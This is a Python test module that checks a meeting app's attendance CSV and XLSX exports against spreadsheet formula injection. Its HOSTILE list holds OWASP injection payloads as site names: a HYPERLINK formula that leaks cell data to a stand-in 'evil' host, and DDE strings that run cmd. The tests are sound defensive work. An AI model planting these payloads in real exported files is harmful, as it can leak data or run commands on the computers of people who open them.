"""The attendance report's files hold a hostile site name as inert text, never a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import openpyxl
from aiohttp.test_utils import TestClient

from meetings.accounts.models import Role
from meetings.planning import lifecycle as planning
from meetings.planning.models import MeetingCreate
from tests.factories import bearer, make_site, make_user

#: OWASP's CSV injection vectors, as names an organiser could type for a site.
HOSTILE = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


async def _session_with_hostile_sites(session_factory: Any) -> tuple[int, dict[str, str]]:
    async with session_factory() as session, session.begin():
        made = [
            await make_site(session, code=f"EVIL-{n}", name=name) for n, name in enumerate(HOSTILE)
        ]
        starts = datetime(2030, 9, 19, 2, 0, tzinfo=UTC)
        meeting = await planning.create_meeting(
            session,
            MeetingCreate(
                title="=1+1 giao ban",
                starts_at=starts,
                ends_at=starts + timedelta(hours=2),
                site_ids=[s.id for s in made],
            ),
            organiser_id=None,
            default_location="Hội trường",
        )
        await make_user(session, username="chair", role=Role.chair)
        return meeting.id or 0, await bearer(session, "chair")


async def test_attendance_csv_quotes_every_formula_like_cell(
    client: TestClient, session_factory: Any
):
    meeting_id, headers = await _session_with_hostile_sites(session_factory)

    response = await client.get(f"/api/v1/meetings/{meeting_id}/attendance.csv", headers=headers)

    assert response.status == 200
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig"))))
    names = {row[1]: row[2] for row in rows[1:] if row[1]}
    assert names == {f"EVIL-{n}": "'" + name for n, name in enumerate(HOSTILE)}
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


async def test_attendance_xlsx_holds_names_as_text_never_as_formulas(
    client: TestClient, session_factory: Any
):
    meeting_id, headers = await _session_with_hostile_sites(session_factory)

    response = await client.get(f"/api/v1/meetings/{meeting_id}/attendance.xlsx", headers=headers)

    assert response.status == 200
    body = await response.read()
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows(min_row=2):
            if str(row[1].value or "").startswith("EVIL-"):
                assert row[2].data_type == "s"
                assert row[2].value == HOSTILE[int(str(row[1].value)[5:])]
    listed = {row[1]: row[2] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)}
    assert {listed[f"EVIL-{n}"] for n in range(len(HOSTILE))} == set(HOSTILE)
